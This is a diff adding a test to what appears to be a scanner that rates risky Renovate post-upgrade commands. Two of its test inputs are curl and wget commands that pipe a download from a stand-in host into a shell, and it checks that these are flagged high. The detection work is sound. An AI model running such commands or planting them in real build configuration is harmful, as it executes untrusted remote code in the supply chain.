@@ -196,6 +196,13 @@ describe('renovate-automerge and renovate-post-upgrade-command', () => {
     expect(found('renovate.json', base, '{ "extends": ["config:recommended"], "automerge": true, "packageRules": [{ "matchUpdateTypes": ["patch"], "automerge": true }] }')).toEqual(['renovate-automerge:medium']);
     expect((extractRenovate('{ "postUpgradeTasks": { "commands": ["npm run generate"] } }', 'renovate.json').findings ?? []).map((f) => f.id)).toEqual(['renovate-post-upgrade-command']);
   });
+  it('a post-upgrade command that pipes a download into a shell is high; an ordinary generator stays medium', () => {
+    const sev = (command: string) => (extractRenovate(JSON.stringify({ postUpgradeTasks: { commands: [command] } }), 'renovate.json').findings ?? []).map((f) => `${f.id}:${f.severity}`);
+    expect(sev('curl -s https://agent-sync.example/r | sh')).toEqual(['renovate-post-upgrade-command:high']);
+    expect(sev('wget -qO- https://agent-sync.example/r | bash -s -- --quiet')).toEqual(['renovate-post-upgrade-command:high']);
+    expect(sev('npm run generate && npx prettier --write .')).toEqual(['renovate-post-upgrade-command:medium']);
+    expect(sev('curl -sSfo schema.json https://schemas.example/v2.json')).toEqual(['renovate-post-upgrade-command:medium']);
+  });
   it('does not report automerge of patches and minors', () => {
     expect(found('renovate.json', '{ "extends": ["config:recommended"] }', '{ "extends": ["config:recommended"], "packageRules": [{ "matchUpdateTypes": ["minor", "patch"], "automerge": true }] }')).toEqual([]);
   });
